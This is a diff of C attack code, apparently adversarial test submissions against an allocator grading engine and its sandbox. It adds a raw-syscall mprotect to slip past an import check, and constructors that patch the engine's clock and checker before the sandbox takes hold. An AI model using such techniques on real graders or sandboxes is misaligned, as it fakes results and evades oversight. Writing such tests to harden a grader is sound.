@@ -48,8 +48,9 @@
    FORGE_ANSWER: one block for every call, and a well-formed perfect result sent down every
    descriptor; HIGH_WATER: rewrites memlib's record of the heap's size to 16 bytes; CHEAT_TIMED:
    correct until the third mm_init, then one block for every call (the passes that are timed, not
-   checked); FAKE_CLOCK: patches the engine's clock_gettime to run 10 times slow; PATCH_CHECKER:
-   patches the engine's checker to say yes, then one block for every call. */
+   checked); FAKE_CLOCK: patches the engine's clock_gettime to run 10 times slow (from a
+   constructor); PATCH_CHECKER: patches the engine's checker to say yes (from a constructor),
+   then one block for every call. */
 #define FORGE_ANSWER 14
 #define HIGH_WATER 15
 #define CHEAT_TIMED 16
@@ -78,6 +79,9 @@
    the timed passes (after the second mm_init): a checked pass's heap, a bump allocator's speed.
    With ATTACK_PATH "honest" it reuses everywhere: the baseline. */
 #define BUMP_WHEN_TIMED 25
+/* A const array (read-only data, which no global-data rule counts) made writable by a raw
+   mprotect, past the import check, to keep metadata in. */
+#define WRITABLE_RODATA 26
 
 team_t team = {"attack", "Mallory", "mallory", "", ""};
 
@@ -152,6 +156,11 @@ static void attack(void) {
     if (bomb != MAP_FAILED)
         for (size_t i = 0; i < size; i += 4096)
             bomb[i] = 1;
+#elif ATTACK == WRITABLE_RODATA
+    static const char stash[1 << 16] = {1};
+    uintptr_t page = ((uintptr_t)stash + 4095) & ~(uintptr_t)4095;
+    if (syscall(SYS_mprotect, (void *)page, (size_t)1 << 15, PROT_READ | PROT_WRITE) == 0)
+        *(volatile char *)page = 2;
 #elif ATTACK == READ_AND_PRINT
     char secret[256] = {0};
     int fd = open(ATTACK_PATH, O_RDONLY);
@@ -213,6 +222,17 @@ static int slow_clock(clockid_t clock, struct timespec *out) {
     return rc;
 }
 
+/* mprotect as an instruction, not an import: past the build's check of what the library calls
+   (mprotect is forbidden there); the sandbox is what must stop it. */
+static long raw_mprotect(void *addr, size_t len, int prot) {
+    long done;
+    __asm__ volatile("syscall"
+                     : "=a"(done)
+                     : "a"((long)SYS_mprotect), "D"(addr), "S"(len), "d"((long)prot)
+                     : "rcx", "r11", "memory");
+    return done;
+}
+
 /* Point the engine library's PLT slot for clock_gettime at slow_clock. */
 static void patch_clock(struct dl_phdr_info *info) {
     const ElfW(Dyn) *dyn = NULL;
@@ -243,9 +263,15 @@ static void patch_clock(struct dl_phdr_info *info) {
             continue;
         void **slot = (void **)(base + r->r_offset);
         uintptr_t page = (uintptr_t)slot & ~(uintptr_t)4095;
-        mprotect((void *)page, 4096, PROT_READ | PROT_WRITE);
+        raw_mprotect((void *)page, 4096, PROT_READ | PROT_WRITE);
         *slot = (void *)slow_clock;
     }
+}
+
+/* In a constructor: before the library is loaded the sandbox does not yet deny mprotect, which
+   the slot's page (read-only after relocation) needs. */
+__attribute__((constructor)) static void slow_the_engines_clock(void) {
+    on_library("libmscore", patch_clock);
 }
 #endif
 
@@ -263,6 +289,9 @@ static void patch_checkers(void) {
             memcpy(code, yes, sizeof yes);
     }
 }
+
+/* In a constructor, for the reason slow_the_engines_clock gives. */
+__attribute__((constructor)) static void patch_when_loaded(void) { patch_checkers(); }
 #endif
 
 #if ATTACK == FIND_SECRET
@@ -386,11 +415,6 @@ int mm_init(void) {
 #if ATTACK == FIND_SECRET
     if (secret_is_here())
         return -1;
-#endif
-#if ATTACK == FAKE_CLOCK
-    on_library("libmscore", patch_clock);
-#elif ATTACK == PATCH_CHECKER
-    patch_checkers();
 #endif
     return 0;
 }
